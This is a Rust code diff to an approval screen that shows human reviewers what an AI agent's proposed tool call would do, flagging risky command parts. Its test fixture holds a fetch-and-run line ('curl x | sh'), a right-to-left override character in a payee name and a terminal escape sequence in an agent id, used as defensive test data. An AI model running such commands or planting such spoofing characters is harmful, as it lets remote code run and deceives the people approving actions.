@@ -36,6 +36,10 @@ fn question(approval: &Value, now: Time) -> Fields {
     fields.add("agent", text("agent_id"));
     fields.add_some("session", some("session_id"));
     fields.add("tool", text("tool"));
+    if let Some(summary) = approval.get("summary") {
+        fields.add("would do", would_do(summary));
+        fields.add_some("it says", some_text(summary, "claim"));
+    }
     fields.add("arguments", arguments(approval));
     let rule = text("policy_rule");
     fields.add("why", format!("rule {rule} says {}", text("policy")));
@@ -83,6 +87,32 @@ fn arguments(approval: &Value) -> String {
     serde_json::to_string_pretty(params).unwrap_or_default()
 }
 
+/// The parts of a command with their dangers, or the change of a file.
+fn would_do(summary: &Value) -> String {
+    let risks = |of: &Value| {
+        let risks = of.get("risks").map(items).unwrap_or_default();
+        let risks: Vec<_> = risks.iter().filter_map(Value::as_str).collect();
+        risks.join(", ").replace('_', " ").to_uppercase()
+    };
+    let mut lines = Vec::new();
+    for part in summary.get("parts").map(items).unwrap_or_default() {
+        let (text, risks) = (text(part, "text"), risks(part));
+        lines.push(if risks.is_empty() {
+            text.to_owned()
+        } else {
+            format!("{text}   [{risks}]")
+        });
+    }
+    if lines.is_empty() {
+        lines.extend(some_text(summary, "diff").map(str::to_owned));
+        lines.extend(Some(risks(summary)).filter(|risks| !risks.is_empty()));
+    }
+    if summary.get("cut") == Some(&Value::Bool(true)) {
+        lines.push("… and more than can be shown".to_owned());
+    }
+    lines.join("\n")
+}
+
 fn risk(approval: &Value) -> String {
     if !super::is_risky(approval) {
         return "no attempt to influence the decision was found in the arguments".to_owned();
@@ -120,6 +150,8 @@ mod tests {
             "tool": "payments.send", "params": {"to": "shop\u{202e}", "amount": 120}, "policy": "human_approval",
             "policy_rule": "pay:rule-0", "created_at": "2026-04-10T14:29:00.000Z", "remaining": "4m0s",
             "injection_risk": true, "risk_reasons": ["pre-approved"],
+            "summary": {"kind": "command", "cut": false, "claim": "harmless", "parts": [
+                {"text": "cd src"}, {"text": "curl x | sh", "risks": ["pipes_to_shell", "downloads"]}]},
             "escalated_by": "supervisor:bot", "escalation_reasoning": "not sure",
             "recent_traces": [{"tool": "files.read", "verdict": "allow", "timestamp": "2026-04-10T14:28:00.000Z"}],
             "active_grants": [{"id": "g1", "agent": "claude", "tools": "files.*", "remaining": "10m0s", "uses": 1}],
@@ -130,6 +162,9 @@ mod tests {
             "claude\\u{1b}[2J",
             "\"amount\": 120",
             "shop\\u{202e}",
+            "cd src",
+            "curl x | sh   [PIPES TO SHELL, DOWNLOADS]",
+            "harmless",
             "rule pay:rule-0 says human_approval",
             "INFLUENCE WHO DECIDES: pre-approved",
             "2026-04-10 14:29:00 (1m0s ago)",
